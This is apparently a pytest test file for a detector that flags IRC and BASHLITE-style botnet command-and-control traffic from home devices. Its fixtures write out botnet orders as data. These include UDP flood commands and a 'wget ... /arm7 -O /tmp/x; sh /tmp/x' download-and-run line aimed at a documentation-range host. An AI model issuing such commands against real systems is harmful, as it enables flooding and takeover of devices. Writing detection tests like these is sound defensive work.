from typing import Any

import pytest

from botwarden.core.record import Record
from botwarden.core.records.irc import IrcMessageRecord, IrcRecord
from botwarden.detect.watchers.orders import MAX_ORDERS, MAX_SEATS, Orders
from detect.records import CAMERA, START, heard, is_local, watch
from detect.traffic import SHARED

SERVER = "203.0.113.66"
ATTACK = "!* UDP 198.51.100.9 80 60"


def ends(at: float, uid: str = "C1", device: str = CAMERA, server: str = SERVER, port: int = 6667) -> dict[str, Any]:
    return {"ts": START + at, "uid": uid, "orig_h": device, "orig_p": 1, "resp_h": server, "resp_p": port}


def enters(nick: str, channel: str = "#x", at: float = 0, key: bool = False, **changes: Any) -> list[Record]:
    where = ends(at, **changes)
    return [
        IrcRecord(**where, command="NICK", value=nick),
        IrcRecord(**where, nick=nick, command="USER", value=nick),
        IrcRecord(**where | {"ts": where["ts"] + 2}, nick=nick, command="JOIN", value=channel,
                  addl=" with channel key: 'x'" if key else None),
    ]  # fmt: skip


def line(
    text: str, at: float = 60, is_orig: bool = False, command: str = "PRIVMSG", **changes: Any
) -> IrcMessageRecord:
    return IrcMessageRecord(
        **ends(at, **changes), is_orig=is_orig, command=command, sender="boss", target="#x", text=text
    )


def test_a_bot_that_is_ordered_about() -> None:
    orders = [line(ATTACK), line("!* SH wget http://198.51.100.9/arm7 -O /tmp/x; sh /tmp/x", at=90)]
    (claim,) = watch(Orders, enters("[ARM]x7f3", key=True), orders)
    assert (claim.serial, claim.label, claim.role, claim.target) == (10, "cnc.irc", "attacker", SERVER)
    assert (claim.confidence, claim.severity) == (0.98, "critical")
    assert claim.reason == (
        "sat at the chat server 203.0.113.66, port 6667, in #x, with 1 connection over 90 s; "
        "it calls itself [ARM]x7f3, as bots do; it knew the channel's password; 2 orders to bots fell"
    )
    assert claim.then == (
        "it was told at 22:14:20 UTC: !* UDP 198.51.100.9 80 60",
        "it was told at 22:14:50 UTC: !* SH wget http://198.51.100.9/arm7 -O /tmp/x; sh /tmp/x",
    )
    assert claim.evidence["points"] == {"orders": 0.65, "nick": 0.3, "key": 0.1, "quick": 0.05}
    assert claim.evidence["orders"][0] == ATTACK


def test_orders_alone_and_names_alone() -> None:
    assert watch(Orders, enters("anna"), [line(ATTACK)])
    assert watch(Orders, [line(".udpflood 198.51.100.9 80 60"), line(".udpflood 198.51.100.10 80 60")])
    names = [record for k in range(6) for record in enters(f"[MIPS]x{k}", at=100 * k, uid=f"C{k}")]
    (claim,) = watch(Orders, names)
    assert claim.severity == "high"
    assert "it had 6 names" in claim.reason


def test_an_order_that_is_repeated_is_told_once() -> None:
    (claim,) = watch(Orders, [line(ATTACK, at=k) for k in range(5)])
    assert len(claim.then) == 1
    assert "5 orders to bots fell" in claim.reason


def test_a_bare_line_of_bashlite() -> None:
    said = [
        line("BUILD MIPS", at=0, is_orig=True, command="REPORT", port=23),
        line("!* SCANNER ON", command="ORDER", port=23),
    ]
    (claim,) = watch(Orders, said)
    assert claim.reason == (
        "took orders from 203.0.113.66, port 23, on a bare line, as BASHLITE does, in 1 connection over 60 s; "
        "1 order to bots fell"
    )


PEOPLE: dict[str, list[Record]] = {
    "chat": [*enters("anna"), line("hi all"), line("hello", is_orig=True), line("!help"), line("!seen bob")],
    "a channel about Linux": [
        *enters("anna", channel="#debian"),
        line("wget http://example.org/install.sh && sh install.sh"),
        line("!op", is_orig=True),
    ],
    "a nickname with brackets": enters("[away]anna", key=True),
    "a bad line": [record for k in range(20) for record in enters("anna", at=100 * k, uid=f"C{k}")],
    "a robot's name": enters("[ARM]anna"),
    "one order that somebody quotes": [*enters("anna"), line(".udpflood 198.51.100.9 80 60")],
    "what it says itself": [*enters("anna"), *(line(ATTACK, is_orig=True, at=k) for k in range(5))],
}


@pytest.mark.parametrize("kind", PEOPLE)
def test_people(kind: str) -> None:
    assert not watch(Orders, PEOPLE[kind])


def test_a_server_in_the_house_and_a_client_outside_are_none() -> None:
    inside = {"server": "192.168.0.50"}
    assert not watch(Orders, enters("[ARM]x", **inside), [line(ATTACK, **inside)])
    outside = {"device": "203.0.113.5"}
    assert not watch(Orders, enters("[ARM]x", **outside), [line(ATTACK, **outside)])


def test_memory_is_bounded() -> None:
    watcher = Orders(is_local)
    for k in range(3000):
        for record in [*enters(f"n{k}", channel=f"#{k}", at=k, uid=f"C{k}"), line(ATTACK, at=k, uid=f"C{k}")]:
            watcher.update(record)
        watcher.update(line(ATTACK, at=k, server=f"203.0.{k >> 8}.{k & 255}"))
    assert len(watcher._seats) == MAX_SEATS
    (claim,) = watch(Orders, [line(f"{ATTACK} {k % 100}", at=k) for k in range(3000)])
    assert len(claim.evidence["orders"]) == MAX_ORDERS
    assert claim.evidence["order_count"] == 3000


def test_a_person_recorded_by_others() -> None:
    assert not heard(Orders, SHARED / "protocols" / "ndpi" / "irc.pcap")
